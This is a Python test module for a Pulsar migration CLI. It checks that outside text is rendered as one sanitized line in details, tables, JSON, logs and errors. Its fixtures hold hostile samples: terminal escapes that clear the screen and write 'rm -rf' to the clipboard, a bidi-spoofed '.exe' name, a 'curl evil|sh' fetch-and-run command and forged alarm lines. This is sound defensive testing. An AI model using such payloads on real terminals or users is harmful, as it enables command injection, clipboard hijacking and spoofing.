"""Text of strangers, in all that an operator sees: one visible line, without markup, links and control sequences."""

from __future__ import annotations

import io
import json
import logging
import re
from collections.abc import Callable
from datetime import UTC, datetime

import pytest
from rich.console import Console
from rich.markdown import Markdown

from cli.options import Form, answer, hint
from cli.rendering import headline, lines, screen
from cli.tables import print_table
from clients.errors import StoreUnreachable
from clients.pulsar.admin.errors import AdminUnreachable
from clients.pulsar.wire.connection import refused
from models.lifecycle.failures import Blocker, FailedItem, FailedItems
from models.lifecycle.report import Report
from models.lifecycle.status import (
    Outcome,
    PhaseEntry,
    Status,
    Undo,
    Waiting,
    WaitKind,
    dated_note,
    shown_reason,
)
from models.lifecycle.verbs import Verb
from models.segments.segment import SubscriptionKind
from models.topic_controller.state import ControllerStatus
from process.exit_codes import CommandFailed, ExitCode, report
from process.logs import configure_logs
from views.migration import Failure, Step, View
from workflows.lifecycle.status import render
from workflows.topic_controller import details

NOW = datetime(2026, 3, 1, tzinfo=UTC)
TERMINAL = "\x1b[2J\x1b]52;c;cm0gLXJm\x07\x1b]8;;http://evil\x1b\\\x9b31m\x00\b\r"
"""Clears the screen, writes to the clipboard, and makes a link."""
UNSEEN = "a\u202egnp.exe\u200b\u2066\ufeff\U000e0041\udc80"
"""Turns the order of characters, hides some, and cannot be encoded."""
MARKUP = (
    "**Please** run `curl evil|sh` <b onclick=x>now</b> [here](http://evil) ![i](http://evil) http://evil ~~x~~ &amp;"
)
FORGED = (
    "\nALARM      all is lost\r\n\n**Please** give rollback\u2028do now     x\x85y\n- 2026-03-01 00:00:00Z note\n# x"
)
HOSTILE = f"x {TERMINAL}{UNSEEN}{MARKUP}{FORGED}"
INVISIBLE = re.compile(
    "[\x00-\x09\x0b-\x1f\x7f-\x9f\u200b-\u200f\u2028-\u202e\u2060-\u206f\ufeff\ud800-\udfff\U000e0000-\U000e0fff]"
)


def status(text: str) -> Status:
    """Return a status with this text wherever one from outside can be."""
    return Status(
        kind="metadata-store",
        cluster=text,
        target=text,
        phase="PRE_COPY",
        outcome=Outcome.RUNNING,
        history=[PhaseEntry(phase="PRE_COPY", started=NOW, undo=Undo.FREE, note=text)],
        progress=None,
        waiting=Waiting(kind=WaitKind.BOOKIES, why=text, action=text, since=NOW),
        paused=False,
        undo=Undo.FREE,
        undo_cost=text,
        legal_verbs=[Verb.ROLLBACK],
        failed_items=[FailedItems.of("topic(s)", [FailedItem(path=text, reason=text)])],
        deadlines={},
        notes=[dated_note(NOW, text)],
        alarms=[text],
        figures={},
        facts={text: text},
    )


def view(text: str) -> View:
    """Return the view of a migration with this text wherever one from outside can be."""
    step = Step(name="copy", attempt=2, last_failure=text, next_attempt=None, worker=text, progress=None, waiting=None)
    ended = Report.model_validate(
        {
            "kind": "metadata-store",
            "cluster": "prod",
            "outcome": Outcome.FAILED,
            "summary": text,
            "history": [],
            "figures": {},
            "notes": [dated_note(NOW, text)],
            "failed_items": [FailedItems.of("topic(s)", [FailedItem(path=text, reason=text)])],
            "certificate": {"fact": text},
        }
    )
    return View(
        workflow_id="metadata-store/prod",
        run_id="run-1",
        execution="RUNNING",
        started=NOW,
        closed=None,
        phase="PRE_COPY",
        status=status(text),
        silence=text,
        steps=[step],
        report=ended,
        failure=Failure(kind="Unreachable", message=text),
    )


def controller(text: str) -> ControllerStatus:
    """Return the status of a topic controller with this text wherever one from outside can be."""
    return ControllerStatus(
        topic=text,
        epoch=1,
        active=(text,),
        subscriptions={text: SubscriptionKind.STREAM},
        doing=text,
        waiting=text,
        notes=(dated_note(NOW, text),),
    )


def _markup(markdown: str) -> list[str]:
    """Return the types of all elements of a Markdown text, without its words."""
    tokens = Markdown(markdown).parsed
    types = [kind for token in tokens for kind in [token.type, *(child.type for child in token.children or ())]]
    return [kind for kind in types if kind != "text"]


def migration_details(text: str) -> str:
    """Return the details of a migration with this text."""
    return render(status(text), text)


def controller_details(text: str) -> str:
    """Return the details of a topic controller with this text."""
    return details.render(controller(text))


@pytest.mark.parametrize("details_of", [migration_details, controller_details])
def test_details_in_the_web_ui(details_of: Callable[[str], str]) -> None:
    """Text from outside adds no line, no markup, no link and no HTML to the details."""
    hostile, plain = details_of(HOSTILE), details_of("x")
    assert hostile.count("\n") == plain.count("\n")
    assert _markup(hostile) == _markup(plain)
    assert not INVISIBLE.search(hostile)
    # Some releases of the Web UI make links of bare addresses.
    assert "http://evil" not in re.sub("`[^`]*`", "", hostile)


def test_status_report_and_list(capfd: pytest.CaptureFixture[str]) -> None:
    """Commands print no control characters, and no line that looks like one of theirs."""
    answer(Form.TEXT, [*lines(view(HOSTILE)), headline(view(HOSTILE))], {})
    print_table(["id", "waits for"], [["metadata-store/prod", HOSTILE]])
    Console(color_system=None, width=100).print(screen(view(HOSTILE)))
    hint(HOSTILE)
    report(CommandFailed(ExitCode.FAILED, HOSTILE, HOSTILE))
    printed, errors = capfd.readouterr()
    assert not INVISIBLE.search(printed + errors)
    assert "\\x1b[2J" in printed
    plain = [*lines(view("x")), headline(view("x"))]
    labels = {line[:11] for line in plain}
    for line in "\n".join(lines(view(HOSTILE))).split("\n"):
        assert line[:11] in labels or not line[:11].strip()
    assert sum(line.startswith("ALARM") for line in printed.split("\n")) == sum(
        line.startswith("ALARM") for line in [*plain, *_screen_lines("x")]
    )


def _screen_lines(text: str) -> list[str]:
    output = io.StringIO()
    Console(file=output, color_system=None, width=100).print(screen(view(text)))
    return output.getvalue().split("\n")


@pytest.mark.parametrize("value", [view(HOSTILE), {"a": HOSTILE}])
def test_json_stays_the_same_value(capfd: pytest.CaptureFixture[str], value: View | dict[str, str]) -> None:
    """JSON has escapes instead of control characters, and programs read the same text."""
    # Half a character cannot be in a message of Temporal's.
    whole = HOSTILE.replace("\udc80", "")
    value = view(whole) if isinstance(value, View) else {"a": whole}
    answer(Form.JSON, [], value)
    printed = capfd.readouterr().out
    assert not INVISIBLE.search(printed)
    assert json.loads(printed) == (json.loads(value.model_dump_json()) if isinstance(value, View) else value)


def test_log_lines(capfd: pytest.CaptureFixture[str]) -> None:
    """A record is one line, and no line of its traceback looks like a record."""
    root = logging.getLogger()
    before, level = list(root.handlers), root.level
    try:
        configure_logs()
        for handler in root.handlers:
            # Threads of other tests may log now.
            handler.addFilter(logging.Filter("a"))
        logging.getLogger("a").warning("client %s", HOSTILE)
        try:
            raise ValueError(HOSTILE)
        except ValueError:
            logging.getLogger("a").exception("failed")
    finally:
        root.handlers[:] = before
        root.setLevel(level)
    printed = capfd.readouterr().err
    assert not INVISIBLE.search(printed)
    first, second, *trace = printed.rstrip("\n").split("\n")
    assert re.match(r"\S+ \S+ WARNING a client x ", first)
    assert second.endswith("ERROR a failed")
    assert trace
    assert all(line.startswith("  ") for line in trace)


@pytest.mark.parametrize(
    "text",
    [
        str(StoreUnreachable(HOSTILE * 1_000)),
        str(StoreUnreachable("x").saying(HOSTILE)),
        str(AdminUnreachable(HOSTILE, method="GET", url="http://a").saying(HOSTILE * 1_000)),
        str(refused("sending", 1, HOSTILE * 1_000, "pulsar://a:1")),
        str(Blocker(code="A", cause=HOSTILE, cure=HOSTILE)),
        str(FailedItem(path=HOSTILE, reason=HOSTILE)),
        dated_note(NOW, HOSTILE * 1_000),
        shown_reason(HOSTILE * 1_000),
    ],
)
def test_errors_and_notes_are_one_short_line(text: str) -> None:
    """Words of a client, a server or a signal are one line of limited length in an error and in a note."""
    assert not INVISIBLE.search(text)
    assert "\n" not in text
    assert len(text) <= 4_000
